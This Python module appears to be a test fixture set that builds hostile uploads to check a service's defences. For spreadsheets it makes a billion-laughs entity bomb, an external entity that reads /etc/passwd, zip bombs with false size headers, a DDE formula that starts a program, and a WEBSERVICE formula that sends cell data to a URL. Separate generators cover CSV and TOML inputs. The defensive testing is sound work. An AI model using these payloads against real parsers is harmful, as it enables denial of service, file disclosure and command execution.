"""Files that somebody might send in to stop the service or make it do something; each made when asked."""

import io
import struct
import zipfile
from collections.abc import Callable

from xlsxwriter import Workbook

MEGABYTE = 1_000_000
NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DAY = b"day,name\n2010-12-24,Christmas Eve\n"

Make = Callable[[], bytes]


def _workbook(fill: Callable[[Workbook], None]) -> bytes:
    content = io.BytesIO()
    with Workbook(content, {"in_memory": True}) as book:
        fill(book)
    return content.getvalue()


def sound(book: Workbook) -> None:
    """A spreadsheet with a heading and one day, with nothing wrong in it."""
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["day", "name"])
    sheet.write_row(1, 0, ["2010-12-24", "Christmas Eve"])


def _with(formula: str, value: str = "2010-12-24") -> bytes:
    def fill(book: Workbook) -> None:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["day", "name"])
        sheet.write_formula(1, 0, formula, value=value)

    return _workbook(fill)


def _repacked(changed: dict[str, bytes]) -> bytes:
    """The sound spreadsheet with parts replaced or added."""
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_workbook(sound))) as before:
        parts = {name: before.read(name) for name in before.namelist()} | changed
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return content.getvalue()


def _sheet(rows: str, doctype: str = "", dimension: str = "A1:B2") -> bytes:
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<worksheet xmlns="{NAMESPACE}">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    )
    return _repacked({"xl/worksheets/sheet1.xml": xml.encode()})


def _text_cell(position: str, words: str) -> str:
    return f'<c r="{position}" t="inlineStr"><is><t>{words}</t></is></c>'


HEADING_ROW = f'<row r="1">{_text_cell("A1", "day")}</row>'


def _billion_laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY l{number} "{"".join([f"&l{number - 1};"] * 10)}">' for number in range(1, 11)
    )
    doctype = f'<!DOCTYPE worksheet [<!ENTITY l0 "lol">{entities}]>'
    return _sheet(f'{HEADING_ROW}<row r="2">{_text_cell("A2", "&l10;")}</row>', doctype)


def _laughs_in_strings() -> bytes:
    text = '<!DOCTYPE sst [<!ENTITY a "' + "x" * 10_000 + '">]>'
    strings = f'<?xml version="1.0"?>{text}<sst xmlns="{NAMESPACE}"><si><t>{"&a;" * 20_000}</t></si></sst>'
    cell = '<c r="A1" t="s"><v>0</v></c>'
    sheet = f'<worksheet xmlns="{NAMESPACE}"><sheetData><row r="1">{cell}</row></sheetData></worksheet>'
    return _repacked({"xl/sharedStrings.xml": strings.encode(), "xl/worksheets/sheet1.xml": sheet.encode()})


def _external_entity() -> bytes:
    doctype = '<!DOCTYPE worksheet [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return _sheet(f'{HEADING_ROW}<row r="2">{_text_cell("A2", "&f;")}</row>', doctype)


def _bomb() -> bytes:
    return _repacked({"xl/media/image1.png": b"\0" * (300 * MEGABYTE)})


def _lying_bomb() -> bytes:
    """Says that a part of 300 MB has 1,000 bytes."""
    content = bytearray(_repacked({"xl/worksheets/sheet1.xml": b" " * (300 * MEGABYTE)}))
    size = struct.pack("<I", 300 * MEGABYTE)
    place = content.find(size)
    while place >= 0:
        content[place : place + 4] = struct.pack("<I", 1000)
        place = content.find(size, place)
    return bytes(content)


def _nested() -> bytes:
    inner = b"\0" * MEGABYTE
    for depth in range(20):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
            package.writestr(f"level{depth}.zip", inner)
        inner = packed.getvalue()
    return inner


def _password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000


def _many_cells() -> bytes:
    cells = "".join(_text_cell(f"{column}2", "x") for column in "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    rows = "".join(
        f'<row r="{number}">{cells.replace("2", str(number))}</row>' for number in range(2, 60_000)
    )
    return _sheet(HEADING_ROW + rows)


XLSX: dict[str, Make] = {
    "a formula": lambda: _with("=TODAY()"),
    "a formula without a value": lambda: _with("=1+1", ""),
    "a formula that starts a program": lambda: _with("=cmd|' /C calc'!A0"),
    "a formula that asks a network": lambda: _with('=WEBSERVICE("http://example.org/?"&B2)'),
    "a formula of another file": lambda: _with("='[Other.xlsx]Sheet1'!A1"),
    "links to other files": lambda: _repacked({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
    "macros": lambda: _repacked({"xl/vbaProject.bin": b"\0" * 1000}),
    "old macros": lambda: _repacked({"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "a file within it": lambda: _repacked({"xl/embeddings/oleObject1.bin": b"\0" * 1000}),
    "a bomb": _bomb,
    "a bomb that lies about its size": _lying_bomb,
    "zip files within each other": _nested,
    "a billion laughs": _billion_laughs,
    "laughs among the shared texts": _laughs_in_strings,
    "an entity that reads a file": _external_entity,
    "a cell in the far corner": lambda: _sheet(f'<row r="1048576">{_text_cell("XFD1048576", "x")}</row>'),
    "a cell beyond every spreadsheet": lambda: _sheet(f'<row r="1">{_text_cell("ZZZZ99999999", "x")}</row>'),
    "a million columns": lambda: _sheet('<row r="1">' + "<c><v>1</v></c>" * 1_000_000 + "</row>"),
    "a million and a half cells": _many_cells,
    "a deep sheet": lambda: _sheet("<row>" * 100_000 + "</row>" * 100_000),
    "a sheet cut off": lambda: _repacked({"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row r="}),
    "a file cut off": lambda: _workbook(sound)[:-1500],
    "the beginning of a file": lambda: _workbook(sound)[:200],
    "an old spreadsheet or one with a password": _password,
    "a document of another kind": lambda: _repacked({"word/document.xml": b"<a/>"})[:100] + b"\0" * 500,
    "text called a spreadsheet": lambda: DAY,
    "nothing": lambda: b"",
}
CSV: dict[str, Make] = {
    "a program": lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40,
    "UTF-16": lambda: DAY.decode().encode("utf-16"),
    "NUL characters": lambda: DAY + b"2010-12-25,a\0b\n",
    "a spreadsheet called text": lambda: _workbook(sound),
    "a million columns": lambda: b"day," * 1_000_000 + b"\n",
    "a line without an end": lambda: b'day,name\n"' + b"x" * (5 * MEGABYTE),
    "more rows than are read": lambda: b"day,name\n" + b"2010-12-24,a\n" * 250_000,
    "more than is read": lambda: b"day,name\n" + b"2010-12-24,a\n" * (21 * MEGABYTE // 13),
    "control characters": lambda: b"day\x07,name\n2010-12-24,a\n",
    "half of a character": lambda: b"\xef\xbb\xbfday,name\n2010-12-24,\xff\xfe\x9d\n",
}
TOML: dict[str, Make] = {
    "lists within each other": lambda: b"a = " + b"[" * 200_000,
    "tables within each other": lambda: b"[" + b".".join([b"a"] * 50_000) + b"]\n",
    "a key of many short ones": lambda: b"a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.%d = 1\n" * 100_000,
    "many tables within tables": lambda: b"".join(
        b"[%s]\n" % b".".join([b"a"] * 15 + [b"%d" % n]) for n in range(100_000)
    ),
    "a number without an end": lambda: b"a = " + b"9" * MEGABYTE,
    "a text without an end": lambda: b'a = """' + b"x" * MEGABYTE,
    "not toml at all": lambda: b"\x7fELF" + bytes(range(256)) * 40,
}
